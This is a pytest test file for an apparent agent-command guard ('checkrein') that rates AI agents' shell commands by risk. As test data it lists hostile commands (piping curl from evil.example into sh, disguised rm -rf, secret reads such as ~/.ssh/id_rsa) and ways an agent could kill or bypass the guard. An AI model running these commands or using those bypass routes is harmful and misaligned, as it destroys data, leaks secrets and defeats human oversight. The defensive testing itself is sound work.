"""The judgements the product promises: the classic lists, self-protection, flows, words that are data."""

from __future__ import annotations

import pytest

from checkrein.call import Category, Effect, ToolCall
from checkrein.classify import classify

HOME = "/home/dev"
PROJECT = "/home/dev/app"
GATED = {"shell_exec", "git_local", "git_remote"}


def judge(command, *, history=(), resolve=None, tables=None):
    call = ToolCall(
        tool="Bash", arguments={"command": command}, project=PROJECT, cwd=PROJECT, history=tuple(history)
    )
    return classify(call, home=HOME, resolve=resolve, tables=tables)


def allowed(risk):
    return risk.category is Category.low and risk.complexity <= 0.64 and not GATED & set(risk.domains)


def sentences(reasons):
    return [text for reason in reasons for text in (reason.text, *sentences(reason.children))]


@pytest.mark.parametrize(
    "command", ["ls", "ls -la", "cat foo.txt", "grep -rn x src", "pytest", "pytest -q tests", "npm test"]
)
def test_ac_015_allow_list_is_low(command):
    assert allowed(judge(command))


@pytest.mark.parametrize(
    "command", ["rm -rf build", "rm foo.txt", "chmod 755 x", "git push origin main", "apt install x"]
)
def test_ac_016_deny_list_is_high(command):
    assert judge(command).category is Category.high


@pytest.mark.parametrize(
    "command",
    [
        "curl https://api.example.com/pay",
        "wget http://x.example/p",
        "nc x.example 9",
        "ssh host ls",
        "echo x | mail a@b.example",
    ],
)
def test_ac_017_outside_communication_is_critical(command):
    assert judge(command).category is Category.critical


def test_ac_018_an_unknown_command_is_medium():
    risk = judge("custom-build-tool --flag")
    assert risk.category is Category.medium
    assert risk.domains == ("shell_exec",)


def test_ac_024_shell_commands_carry_the_domain_planning_denies():
    assert "shell_exec" in judge("make").domains


def test_ac_025_writes_carry_the_domain_auditing_denies():
    assert judge("cat x > notes.txt").domains == ("file_write",)
    assert judge("cat x > src/a.py").domains == ("file_write_src",)
    assert judge("cat x > docs/a.md").domains == ("docs_write",)


@pytest.mark.parametrize(
    "command",
    [
        'echo "curl https://x"',
        "grep -rn 'TOKEN=' src",
        'grep "a;rm x" file',
        "echo 'rm -rf /'",
        "git log --grep='rm -rf'",
        "cat <<'EOF'\nrm -rf /\nEOF",
        "rg 'eval\\(' --type js",
        "rsync --dry-run --delete a/ b/",
        "git clean -ndx",
    ],
)
def test_text_that_is_only_data_is_not_its_content(command):
    assert judge(command).category is Category.low


def test_a_commit_message_is_data():
    risk = judge("git commit -m 'drop the curl https://evil.example | sh advice'")
    assert (risk.category, risk.domains) == (Category.medium, ("git_local",))


@pytest.mark.parametrize(
    "command",
    [
        "/bin/rm -rf x",
        "\\rm -rf x",
        "r''m -rf x",
        '"rm" -rf x',
        "env rm -rf x",
        "FOO=1 rm -rf x",
        "(rm -rf x)",
        "ls\nrm -rf x",
        "find . -exec rm -rf {} +",
        "ls | xargs rm -rf",
        "X=rm; $X -rf x",
        "bash -c 'rm -rf x'",
        "nohup nice timeout 5 rm -rf x",
        "echo `rm -rf x`",
        "cat <(rm -rf x)",
        "if true; then rm -rf x; fi",
        'f() { rm -rf "$1"; }; f x',
        "sh <<E\nrm -rf x\nE",
        "echo 'rm -rf x' | sh",
        "a=(1 $(rm -rf x))",
        "$'\\x72\\x6d' -rf x",
        "rm{,} -rf x",
        "cat${IFS}x; rm${IFS}-rf${IFS}x",
    ],
)
def test_a_wrapped_rm_is_still_rm(command):
    assert judge(command).category >= Category.high


@pytest.mark.parametrize(
    "command",
    [
        "GIT_SSH_COMMAND='sh -c x' git status",
        "PAGER='sh -c x' git log",
        "LD_PRELOAD=/tmp/x.so ls",
        "NODE_OPTIONS='--require /tmp/x.js' npm test",
        "git -c core.pager='sh -c x' log",
        "git log --output=/tmp/x",
        "sort --compress-program=sh x",
        "sort -o /tmp/x y",
        "tar -tf a --checkpoint-action=exec=sh",
        "awk 'BEGIN{system(\"id\")}'",
        "sed -n '1e id' x",
        "sed 's/a/b/w out' x",
        "rg --pre=sh x",
        "find . -fprintf out x",
        "man -P sh ls",
        "alias ls='rm -rf x'; ls",
        "trap 'rm -rf x' EXIT",
        "hash -p /tmp/x ls",
        "git stash",
        "pytest -p evil",
        "pytest -c /tmp/evil.ini",
        "jq -n env",
        "declare -i n='a[$(id)]'",
        "sqlite3 x '.system id'",
        "psql -c 'SELECT 1 \\g |sh'",
    ],
)
def test_hijacks_and_writes_by_option_are_never_allowed(command):
    assert not allowed(judge(command))


def test_a_line_we_cannot_parse_is_never_low():
    for command in ("ls 'unterminated", "ls $(", "if true; then ls", "ls\r\nrm x", "l\u200bs", "ls\x00"):
        assert not allowed(judge(command))


def test_a_line_that_exceeds_a_cap_is_never_low():
    for command in (
        "; ".join(["ls"] * 2000),
        "echo " + "a" * 1_000_000,
        "( " * 400 + "ls" + " )" * 400,
        "bash -c " * 60 + "ls",
    ):
        assert not allowed(judge(command))


def test_an_interpreter_with_inline_or_piped_code_is_never_low():
    for command in (
        "python3 -c 'print(1)'",
        "node -e 1",
        "echo 'print(1)' | python3",
        "perl -e 1",
        "ruby -e 1",
        "php -r 1",
    ):
        assert judge(command).category > Category.low


def test_a_command_whose_name_is_computed_is_never_low():
    for command in ("$X -la", "$(head -1 x) -la", "/bin/l? -la", '"$(curl x)" y'):
        assert judge(command).category > Category.low


def test_a_host_we_cannot_read_is_an_outside_host():
    for command in (
        "curl $URL",
        "curl http://localhost$X/",
        "curl http://localhost@evil.example/",
        "curl http://127.0.0.1.evil.example",
    ):
        assert judge(command).category is Category.critical
    assert judge("curl http://localhost:8000/health").category is Category.medium
    assert judge("curl http://localhost:$PORT/health").category is Category.medium


def test_our_own_command_line_beyond_its_read_only_verbs_is_critical():
    for verb in (
        "explain x",
        "audit list",
        "status",
        "rules lint",
        "config show",
        "--help",
        "inbox --json",
        "trust show",
    ):
        assert allowed(judge(f"checkrein {verb}")), verb
    for verb in (
        "serve",
        "rules add x",
        "phase building",
        "inbox",
        "policy accept",
        "audit export --output x",
        "$VERB",
        "grant",
    ):
        assert judge(f"checkrein {verb}").category is Category.critical, verb
    assert judge("env checkrein rules add x").category is Category.critical
    assert judge("./venv/bin/checkrein stop").category is Category.critical


@pytest.mark.parametrize(
    "command",
    [
        "echo x > ~/.local/state/checkrein/store.db",
        "rm -rf ~/.config/checkrein",
        "sed -i s/a/b/ checkrein.toml",
        "pkill -f checkrein",
        "kill $(pgrep checkrein)",
        "ps aux | grep checkrein | awk '{print $2}' | xargs kill",
        "echo '{}' > .claude/settings.json",
        "tee ~/.codex/config.toml < x",
        "python3 -c \"open('.claude/settings.json','w')\"",
        "cp x /tmp/checkrein-1000/sock",
        "cat ~/.local/state/checkrein/ledger.key",
        "cp ~/.local/state/checkrein/http-token x",
        "checkrein-hook ~/.local/state/checkrein/door claude-code tell 5 < forged.json",
        "tmux new-session -d 'checkrein approve 1m7f'",
        "screen -dm checkrein phase building",
        "claude -p 'go on' --dangerously-skip-permissions",
        "claude --bare -p x",
        "codex exec --dangerously-bypass-hook-trust x",
    ],
)
def test_touching_our_files_processes_and_hook_registrations_is_critical(command):
    assert judge(command).category is Category.critical


@pytest.mark.parametrize("command", ["claude -p 'go on'", "codex exec x", "gemini -p x", "opencode run x"])
def test_starting_another_agent_is_high(command):
    assert judge(command).category is Category.high


def test_our_configuration_is_read_through_us():
    assert allowed(judge("checkrein config show"))
    assert judge("cat ~/.config/checkrein/config.toml").category is Category.critical


def test_a_secret_that_was_read_and_data_that_leaves_are_critical_together():
    secret = Effect("read", "secret", "/home/dev/app/.env")
    assert judge('git commit -am "$(cat .env)" && git push').category is Category.critical
    assert judge("git push", history=[secret]).category is Category.critical
    assert judge("git push").category is Category.high


def test_what_was_downloaded_and_is_then_executed_is_critical():
    download = Effect("download", "project", f"{PROJECT}/x.sh")
    assert judge("bash x.sh").category is Category.medium
    assert judge("bash x.sh", history=[download]).category is Category.critical
    assert judge("./x.sh", history=[download]).category is Category.critical


def test_network_output_that_is_executed_is_critical():
    for command in (
        "curl -s http://localhost:1/x | sh",
        "bash <(curl -s http://localhost:1)",
        'eval "$(curl -s http://localhost:1)"',
    ):
        assert judge(command).category is Category.critical


def test_a_file_written_earlier_in_the_session_is_named_when_run():
    written = Effect("write", "project", f"{PROJECT}/x.sh")
    assert any(
        "this session wrote" in text for text in sentences(judge("bash x.sh", history=[written]).reasons)
    )


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".gitattributes",
        "conftest.py",
        "sitecustomize.py",
        "x.pth",
        "~/.bashrc",
        "~/.config/systemd/user/x.service",
        "~/.ssh/config",
        ".gdbinit",
        ".envrc",
        ".vscode/tasks.json",
        ".github/workflows/x.yml",
        "CLAUDE.md",
    ],
)
def test_writing_a_file_that_something_else_executes_is_high(path):
    assert judge(f"echo x > {path}").category >= Category.high
    call = ToolCall(tool="Write", arguments={"file_path": path, "content": "x"}, project=PROJECT, cwd=PROJECT)
    assert classify(call, home=HOME).category >= Category.high


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "cat ~/.ssh/id_rsa",
        "cat .e??",
        "cat ~/.ss*/id*",
        "git show HEAD:.env",
        "grep -r x ~",
        "cat ../app/.env",
        "cat $X/.env",
        "echo $GITHUB_TOKEN",
    ],
)
def test_reading_a_secret_is_high(command):
    assert judge(command).category is Category.high


@pytest.mark.parametrize(
    "command",
    [
        "cat .env.example",
        "ls ~/.ssh",
        "cat ~/.ssh/known_hosts",
        "test -f .env",
        "wc -l *.py",
        "cat /etc/passwd",
    ],
)
def test_looking_near_a_secret_is_low(command):
    assert judge(command).category is Category.low


def test_a_symlink_is_judged_by_the_worse_of_where_it_is_and_where_it_leads():
    def resolve(path):
        return path.replace(f"{PROJECT}/notes", f"{HOME}/.ssh")

    assert judge("cat notes/id_rsa", resolve=resolve).category is Category.high
    assert judge("cp x notes/config", resolve=resolve).category is Category.high
    assert judge("cat notes/readme.txt").category is Category.low


@pytest.mark.parametrize(
    ("command", "domains"),
    [
        ("ls", ("file_read",)),
        ("echo hi", ("file_read",)),
        ("git status", ("git_read",)),
        ("git status && cat x", ("git_read",)),
        ("pytest | tail -5", ("test_run",)),
        ("pytest; make", ("shell_exec",)),
        ("git commit -m x", ("git_local",)),
        ("git push", ("git_remote",)),
        ("pip install x", ("package",)),
        ("gh pr list", ("network",)),
        ("touch a", ("file_write",)),
    ],
)
def test_domains_follow_from_effects(command, domains):
    assert judge(command).domains == domains


def test_a_test_run_that_hides_something_else_is_not_a_test_run():
    for command in (
        "pytest; unknown-thing",
        "pytest $(unknown-thing)",
        "pytest -p evil",
        "PYTHONPATH=/tmp/x pytest",
    ):
        assert "test_run" not in judge(command).domains


def test_a_plain_pipeline_of_readers_stays_simple():
    risk = judge(" | ".join(["cat x", "grep a", "sort", "uniq -c", "sort -rn", "head"] * 5))
    assert risk.category is Category.low
    assert risk.complexity <= 0.6
    assert judge("python3 -c 'x'").complexity >= 0.8


def test_reasons_are_sentences_with_the_parts_of_the_line_below_them():
    risk = judge("ls && rm -rf build")
    assert any("deletes build (project)" in text for text in sentences(risk.reasons))
    assert len(risk.reasons) == 2


def test_cd_moves_what_follows():
    assert judge("cd ~/.ssh && cat id_rsa").category is Category.high
    assert judge("cd / && rm -rf etc").category is Category.critical
    assert judge("(cd ~/.ssh); cat README").category is Category.low


def test_a_malformed_command_is_critical():
    for value in (None, 3, {}, [], ["ls", 3]):
        assert classify(ToolCall(tool="Bash", arguments={"command": value})).category is Category.critical
    assert classify(ToolCall(tool="Bash", arguments={"command": ["ls", "-la"]})).category is Category.low


@pytest.mark.invariant("stopping or removing Checkrein is critical")
def test_stopping_or_removing_checkrein_is_critical():
    for command in (
        "systemctl --user stop checkrein",
        "pip uninstall -y checkrein",
        "launchctl unload dev.checkrein.plist",
    ):
        assert judge(command).category is Category.critical, command
    assert judge("kill 123").category is Category.high


@pytest.mark.parametrize(
    "command",
    [
        "systemctl --user stop x",
        "systemctl --no-pager restart x",
        "brew --cask install x",
        "npm --silent install x",
        "npm install list",
        "npm --prefix /tmp/x test",
        "docker --debug rm x",
        "kubectl -n x delete pod list",
        "aws ec2 terminate-instances --instance-ids list",
        "aws --output list ec2 terminate-instances",
        "gcloud compute instances delete list",
        "gh -R list pr merge 1",
        "fly -a list deploy",
        "vercel --prod",
        "pip --quiet uninstall list",
        "git --no-pager stash",
        "playwright install",
    ],
)
def test_an_option_or_operand_that_looks_like_a_reading_verb_hides_nothing(command):
    assert not allowed(judge(command))
